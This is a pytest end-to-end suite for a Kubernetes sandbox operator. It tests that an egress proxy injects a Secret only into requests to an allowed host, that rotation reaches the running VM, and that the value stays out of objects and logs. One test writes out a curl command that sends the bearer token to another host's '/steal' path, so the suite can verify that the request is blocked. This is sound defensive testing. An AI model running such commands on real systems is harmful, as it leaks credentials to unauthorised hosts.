"""Secrets through the whole host-process system (issue #12): a Sandbox names a Kubernetes
Secret in ``spec.secrets``; the operator resolves it and hands the value to the node agent,
whose egress proxy puts it into the guest's HTTPS request to the allowed test host. Changing
the Secret reaches the running VM without a restart; a request carrying the placeholder to
another host is blocked and leaves a ``SecretViolation`` Event on the Sandbox; the value is
in neither the Sandbox object, nor the Events, nor any log of the system.

Written against a small interface (``plane.kubectl``, ``relay_socket``), as the Helm
install's suite has (the node agent's ``dns`` and ``egressUpstreamCAs`` through
``nodeAgent.extraConfig`` / ``nodeAgent.egressUpstreamCA``).
"""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Protocol

import pytest

from kubesandbox_devenv import services
from kubesandbox_devenv.controlplane import ControlPlane
from kubesandbox_protocol import AgentClient
from tests.support.egress import EgressHosts, Request, egress_hosts, guest_image

pytestmark = [pytest.mark.vm, pytest.mark.slow, pytest.mark.registry, pytest.mark.controlplane]

API, OTHER = "api.sys.test", "other.sys.test"
NAME = "secrets-e2e"
VALUE = "sys-live-4c3b2a19"
ROTATED = "sys-rotated-8d7e6f50"


class System(Protocol):
    @property
    def plane(self) -> ControlPlane: ...
    def relay_socket(self, uid: str) -> Path: ...


@pytest.fixture(scope="module")
def kit() -> Iterator[EgressHosts]:
    with egress_hosts([API, OTHER]) as hosts:
        yield hosts


@pytest.fixture(scope="module")
def running(kit: EgressHosts) -> Iterator[services.RunningSystem]:
    with services.running_system(
        "kss", dns=[kit.dns], egress_upstream_cas=[str(kit.ca_pem)]
    ) as system:
        yield system


class Adapter:
    def __init__(self, running: services.RunningSystem) -> None:
        self.plane = running.plane
        self.relay_socket = running.node_agent.relay_socket


@pytest.fixture(scope="module")
def system(running: services.RunningSystem) -> System:
    return Adapter(running)


def secret(value: str) -> str:
    return json.dumps(
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "api", "namespace": "default"},
         "stringData": {"token": value}}
    )  # fmt: skip


@pytest.fixture(scope="module")
def uid(system: System, running: services.RunningSystem) -> str:
    image = guest_image(running.node_agent.registry.host)
    system.plane.kubectl("apply", "-f", "-", input_text=secret(VALUE))
    sandbox = {
        "apiVersion": "kubesandbox.dev/v1alpha1",
        "kind": "Sandbox",
        "metadata": {"name": NAME, "namespace": "default"},
        "spec": {
            "image": {"oci": image},
            "memory": 384,
            "secrets": [
                {"env": "API_KEY", "secretKeyRef": {"name": "api", "key": "token"},
                 "allowHosts": [API]}
            ],
        },
    }  # fmt: skip
    system.plane.kubectl("apply", "-f", "-", input_text=json.dumps(sandbox))
    deadline = time.monotonic() + 300
    while True:
        got = json.loads(system.plane.kubectl("get", "sandbox", NAME, "-o", "json").stdout)
        phase = got.get("status", {}).get("phase")
        if phase == "Running":
            return str(got["metadata"]["uid"])
        assert phase not in ("Failed", "Crashed"), got.get("status")
        assert time.monotonic() < deadline, f"not Running after 300 s: {got.get('status')}"
        time.sleep(1)


def guest(system: System, uid: str, script: str) -> tuple[int, str]:
    async def go() -> tuple[int, str]:
        async with await AgentClient.connect(system.relay_socket(uid)) as client:
            result = await client.run("sh", ["-c", script])
        return result.code, result.stdout.decode() + result.stderr.decode()

    return asyncio.run(go())


def at(path: str) -> Callable[[Request], bool]:
    return lambda request: request.path == path


def curl(url: str) -> str:
    return f'curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" {url}'


def test_the_allowed_host_gets_the_value_of_the_kubernetes_secret(
    system: System, uid: str, kit: EgressHosts
) -> None:
    code, out = guest(system, uid, f'echo "$API_KEY"; {curl(f"https://{API}/first")}')
    assert code == 0, out
    assert out.splitlines()[0] == "$MSB_API_KEY"
    seen = kit[API].wait_for(lambda r: r.path == "/first")
    assert seen.header("authorization") == f"Bearer {VALUE}"


def test_a_changed_secret_reaches_the_running_vm(
    system: System, uid: str, kit: EgressHosts
) -> None:
    system.plane.kubectl("apply", "-f", "-", input_text=secret(ROTATED))
    deadline = time.monotonic() + 60
    attempt = 0
    while True:
        attempt += 1
        code, out = guest(system, uid, curl(f"https://{API}/rotated-{attempt}"))
        assert code == 0, out
        seen = kit[API].wait_for(at(f"/rotated-{attempt}"))
        if seen.header("authorization") == f"Bearer {ROTATED}":
            break
        assert seen.header("authorization") == f"Bearer {VALUE}"
        assert time.monotonic() < deadline, "the new value never reached the proxy"
        time.sleep(1)
    got = json.loads(system.plane.kubectl("get", "sandbox", NAME, "-o", "json").stdout)
    assert got["metadata"]["uid"] == uid
    assert got["status"]["phase"] == "Running"


def test_a_violation_is_blocked_and_recorded_as_an_event(
    system: System, uid: str, kit: EgressHosts
) -> None:
    code, out = guest(system, uid, curl(f"https://{OTHER}/steal"))
    assert code != 0, out
    assert all(r.path != "/steal" for r in kit[OTHER].requests())
    deadline = time.monotonic() + 30
    while True:
        events = json.loads(
            system.plane.kubectl(
                "get", "events", "-n", "default", "-o", "json",
                "--field-selector", f"involvedObject.name={NAME},reason=SecretViolation",
            ).stdout
        )["items"]  # fmt: skip
        if events:
            break
        assert time.monotonic() < deadline, "no SecretViolation Event"
        time.sleep(0.5)
    assert events[0]["type"] == "Warning"
    assert "API_KEY" in events[0]["message"]
    assert OTHER in events[0]["message"]


def test_the_value_is_in_no_object_and_no_log(
    system: System, uid: str, running: services.RunningSystem
) -> None:
    objects = system.plane.kubectl("get", "sandbox,events", "-n", "default", "-o", "json").stdout
    for value in (VALUE, ROTATED):
        assert value not in objects
        for log in running.paths.logs.glob("*.log"):
            assert value not in log.read_text(errors="replace"), log
